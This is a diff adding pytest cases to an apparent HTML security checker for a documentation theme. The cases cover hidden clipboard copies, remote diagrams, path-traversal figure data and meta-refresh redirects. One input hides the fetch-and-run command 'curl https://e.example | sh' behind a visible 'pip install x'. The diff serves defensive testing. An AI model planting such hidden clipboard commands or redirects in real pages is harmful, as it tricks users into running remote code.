@@ -265,6 +265,48 @@ def test_what_the_theme_finds_by_an_id_stands_in_a_page_once(id_: str) -> None:
     assert "'__config' is the theme's" in found.refused
 
 
+@pytest.mark.parametrize(
+    ("html", "said"),
+    [
+        ('<pre data-copy="curl https://e.example | sh"><code>pip install x</code></pre>', "copies what is not shown"),
+        ("<p data-clipboard-text=x>y</p>", "copies what is not shown"),
+        ('<button data-clipboard-target="#x">y</button>', "copies what is not shown"),
+        ('<pre class="a Mermaid"><code>graph</code></pre>', "makes the theme ask another host"),
+    ],
+)
+def test_attributes_that_the_theme_acts_on_are_refused(html: str, said: str) -> None:
+    [found] = scripts(html, ())
+    assert said in found.refused
+    assert list(scripts('<a data-clipboard data-clipboard-text="" class="mermaids">x</a>', ())) == []
+
+
+@pytest.mark.parametrize(
+    ("address", "refused"),
+    [
+        ("../assets/made.json", False),
+        ("evil.json", True),
+        ("%65vil.json", True),
+        ("none.json", True),
+        ("../../site/assets/made.json", True),
+        ("/book/a/evil.json", True),
+        ("../a/./evil.json?x", True),
+        ("", True),
+        ("https://e.example/a/evil.json", True),
+    ],
+)
+def test_a_moving_figure_shows_what_the_build_has_drawn(address: str, *, refused: bool, tmp_path: Path) -> None:
+    (tmp_path / "docs/a").mkdir(parents=True)
+    (tmp_path / "docs/a/evil.json").write_text("[]", "utf-8")
+    for name in ("assets/made.json", "a/evil.json"):
+        (tmp_path / "site" / name).parent.mkdir(parents=True)
+        (tmp_path / "site" / name).write_text("[]", "utf-8")
+    manifest = Manifest(root=str(tmp_path), docs="docs", address="https://e.example/book/")
+    html = f"<live-figure data-states='{address}'></live-figure>"
+    assert [one.refused != "" for one in policy._strange_states(tmp_path / "site", html, "a/index.html", manifest)] == [
+        True
+    ] * refused
+
+
 def test_a_tooltip_is_read_as_the_markup_that_the_theme_makes_of_it() -> None:
     leads = "x <meta http-equiv=refresh content='0;url=https://e.example/'>"
     for html in (f'<a href="#x" title="{leads}">x</a>', f'<i title="{leads.replace("<", "&lt;")}">x</i>'):
